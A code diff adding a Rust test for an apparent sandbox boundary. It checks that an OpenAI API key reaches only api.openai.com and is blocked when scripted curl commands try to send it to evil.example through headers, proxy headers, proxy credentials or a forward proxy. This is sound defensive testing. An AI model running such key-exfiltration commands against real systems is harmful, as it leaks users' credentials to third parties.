@@ -189,3 +189,48 @@ except Exception as e:
         "the split placeholder's first frame leaked: {got}"
     );
 }
+
+#[test]
+fn proxies_inside_the_sandbox_are_answered_by_the_boundary() {
+    if !is_root() {
+        return;
+    }
+    let net = FakeInternet::with_http(&[80], &[443]);
+    // 45.90.1.77 runs nothing: the boundary answers CONNECT itself and never dials it.
+    let o = run(
+        &net,
+        &[],
+        r#"export HTTPS_PROXY=http://45.90.1.77:3128
+           curl -sS -m 5 -o /dev/null -w 'proxied %{http_code}\n' -H "Authorization: Bearer $OPENAI_API_KEY" https://api.openai.com/via-proxy
+           python3 -c 'import os, urllib.request as u; r = u.Request("https://api.openai.com/py-proxy", headers={"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]}); print("py", u.urlopen(r, timeout=5).status)'
+           curl -sS -m 5 -H "X: $OPENAI_API_KEY" https://evil.example/proxied-evil >/dev/null 2>&1; echo "evil=$?"
+           curl -sS -m 5 --proxy-header "X-Leak: $OPENAI_API_KEY" https://api.openai.com/outer >/dev/null 2>&1; echo "outer=$?"
+           curl -sS -m 5 --proxy-user "u:$OPENAI_API_KEY" https://api.openai.com/outer-basic >/dev/null 2>&1; echo "outer-basic=$?"
+           unset HTTPS_PROXY
+           curl -sS -m 5 -x http://45.90.1.20:80 -H "X: $OPENAI_API_KEY" http://evil.example/forward >/dev/null 2>&1; echo "forward=$?"
+           curl -sS -m 5 -o /dev/null -w 'forward-clean %{http_code}\n' -x http://45.90.1.20:80 http://evil.example/forward-clean
+           curl -s -m 5 -o /dev/null http://evil.example/sentinel-zz"#,
+    );
+    let out = stdout(&o);
+    assert!(out.contains("proxied 200"), "{}", report(&o, &net));
+    assert!(out.contains("py 200"), "{}", report(&o, &net));
+    for k in ["evil", "outer", "outer-basic", "forward"] {
+        assert!(
+            !out.contains(&format!("{k}=0")),
+            "{k}: {}",
+            report(&o, &net)
+        );
+    }
+    assert!(out.contains("forward-clean 200"), "{}", report(&o, &net));
+    assert!(net.wait_received("/sentinel-zz"));
+    let got = net.received();
+    assert_eq!(got.matches(&format!("Bearer {VALUE}")).count(), 2, "{got}");
+    for path in ["/proxied-evil", "/outer", "/forward "] {
+        assert!(!got.contains(path), "{path} reached a destination: {got}");
+    }
+    assert!(
+        got.contains("GET http://evil.example/forward-clean HTTP/1.1"),
+        "{got}"
+    );
+    assert!(!got.contains(PH), "{got}");
+}
